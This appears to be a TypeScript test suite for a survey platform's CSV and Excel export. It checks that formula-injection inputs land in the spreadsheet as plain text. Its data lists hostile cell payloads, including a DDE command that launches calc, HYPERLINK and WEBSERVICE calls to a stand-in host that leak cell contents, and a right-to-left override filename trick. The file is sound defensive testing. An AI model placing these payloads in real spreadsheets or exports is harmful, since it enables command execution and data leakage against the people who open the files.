import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type exceljs from 'exceljs';
import { layoutOf } from '../../../../src/pipelines/exports/columns.ts';
import { writeCsv } from '../../../../src/pipelines/exports/csv.ts';
import { writeExcel } from '../../../../src/pipelines/exports/excel/excel.ts';
import type { FileContent, Writer } from '../../../../src/pipelines/exports/writer.ts';
import { safeText } from '../../../../src/platform/csv-text.ts';
import { createExportRows } from '../../../../src/stores/clickhouse/read/export-rows.ts';
import { formulasOf, openedInOffice, withoutOffice } from '../../../support/office.ts';
import { blankSurvey, withQuestion } from '../../../support/questions.ts';
import {
  givenStart,
  openResponseDatabase,
  type ResponseDatabase,
  responseLine,
} from '../../../support/response-database.ts';

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  "''@",
  '{=',
  '=-',
  '=+',
  ' =',
  '\u00a0=',
  '\u200b=',
];
const ends = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://x/?"&A1,"open")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://x")',
  'a\r\nb',
  'a\nb\nc',
  'q"uo""te',
  'a,b;c\td',
  '\u202egnp.exe',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'é𝒳客人مرحبا',
  '<b>&amp;</b>]]>',
  '_x003D_1',
  'IMPORTXML(A1)',
];
const long = 'x'.repeat(40_000);
const mostInCell = 32_767;
/** Every start with every end, words in between that are no trouble, and a text that no cell can hold. */
const hostile = [
  ...starts.flatMap((start) => ends.map((end) => start + end)),
  ...ends.map((end) => `text ${end}`),
  ...starts.map((start) => `${start}`),
  `=${long}`,
  long,
]
  .concat(Array.from({ length: 500 }, (_, n) => `=${n}+${n}`))
  .slice(0, 500);

/** Spreadsheets have one kind of line end inside a cell, and a bound. */
const asCell = (text: string): string => text.slice(0, mostInCell).replace(/\r\n?/g, '\n');

describe('hostile cells in a spreadsheet program', { skip: withoutOffice }, () => {
  let database: ResponseDatabase;
  before(async () => {
    database = await openResponseDatabase();
  });
  after(() => database.close());

  /** Every response of a survey with one open question, written with this writer. */
  async function fileOf(writer: Writer): Promise<Buffer> {
    const { survey } = withQuestion(blankSurvey(), { type: 'LONG_TEXT', text: '=HYPERLINK("http://x")', settings: {} });
    await database.store(
      hostile.map((text, n) =>
        responseLine({ surveyId: survey.id, submittedAtMs: givenStart + n, codes: [1], texts: [text] }),
      ),
    );
    const rows = createExportRows({ clickhouse: database.clickhouse });
    const selection = { surveyId: survey.id };
    const pieces: Uint8Array[] = [];
    const content: Omit<FileContent, 'scan'> = {
      survey,
      layout: layoutOf(survey, { labels: 'text', columns: [survey.questions[0]?.id ?? ''] }),
      createdAt: new Date(givenStart),
      expectedRows: hostile.length,
      batches: rows.batches(selection, 1),
      csvLines: (columns) => rows.csvLines(selection, columns, { codeColumns: 1 }),
      themes: async () => undefined,
      pause: async () => undefined,
      summarise: async () => ({
        surveyId: survey.id,
        totalResponses: hostile.length,
        countedResponses: hostile.length,
        completeResponses: hostile.length,
        completionRate: 100,
        outcomes: { PARTIAL: 0, COMPLETED: hostile.length, SCREENED_OUT: 0, OVER_QUOTA: 0 },
        averageDuration: 0,
        meanDuration: null,
        medianDuration: null,
        byDay: [],
        questions: [],
      }),
    };
    await writer(
      { ...content, scan: () => rows.batches(selection, 1) },
      { write: async (bytes) => void pieces.push(Uint8Array.from(bytes)) },
    );
    return Buffer.concat(pieces);
  }

  const texts = (sheet: exceljs.Worksheet): string[] =>
    hostile.map((_, index) => sheet.getRow(index + 2).getCell(1).text);

  it('would be formulas without protection', async () => {
    assert.ok(formulasOf(await openedInOffice('naked.csv', Buffer.from('head\r\n=1+1\r\n'))).length > 0);
  });

  it('are no formulas in a CSV file, and their text is complete', async () => {
    const sheet = await openedInOffice('lines.csv', await fileOf(writeCsv));
    assert.deepEqual(formulasOf(sheet), []);
    assert.deepEqual(texts(sheet).map(asCell), hostile.map(safeText).map(asCell));
  });

  it('are no formulas in a workbook, and their text is complete', async () => {
    const sheet = await openedInOffice('book.xlsx', await fileOf(writeExcel));
    assert.deepEqual(formulasOf(sheet), []);
    assert.deepEqual(texts(sheet).map(asCell), hostile.map(asCell));
  });
});
